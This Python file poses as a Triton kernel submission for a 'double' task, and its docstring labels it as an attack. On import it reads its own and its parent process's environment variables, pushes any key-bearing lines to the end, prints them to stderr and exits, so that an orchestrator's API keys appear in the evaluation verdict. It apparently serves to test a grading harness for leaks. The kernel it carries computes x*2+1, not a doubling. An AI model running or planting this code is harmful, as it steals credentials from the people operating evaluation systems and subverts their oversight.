"""Attack (keys): read this process's and its parent's environment (/proc/self/environ, /proc/<ppid>/environ)
and print them to stderr before dying, so that an API key the orchestrator holds lands in the verdict message."""
import os

import torch
import triton
import triton.language as tl

TASK = "double"
SPACE = {"BLOCK": [128, 256], "num_warps": [4]}

_lines = []
for _path in ("/proc/self/environ", f"/proc/{os.getppid()}/environ"):
    try:
        with open(_path, "rb") as _f:
            _lines += [_path.encode() + b" " + _v for _v in _f.read().split(b"\0") if _v]
    except OSError as _exc:
        _lines.append(f"{_path}: {_exc}".encode())
# Keys last: a verdict quotes the last line of stderr.
_lines.sort(key=lambda _v: b"KEY" in _v)
os.write(2, b"\n".join(_lines) + b"\n")
os._exit(3)


@triton.jit
def _double(x_ptr, y_ptr, n, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n
    x = tl.load(x_ptr + offs, mask=mask).to(tl.float32)
    tl.store(y_ptr + offs, (x * 2 + 1).to(y_ptr.dtype.element_ty), mask=mask)


def launch(x, BLOCK=256, num_warps=4):
    y = torch.empty_like(x)
    _double[(triton.cdiv(x.numel(), BLOCK),)](x, y, x.numel(), BLOCK=BLOCK, num_warps=num_warps)
    return y
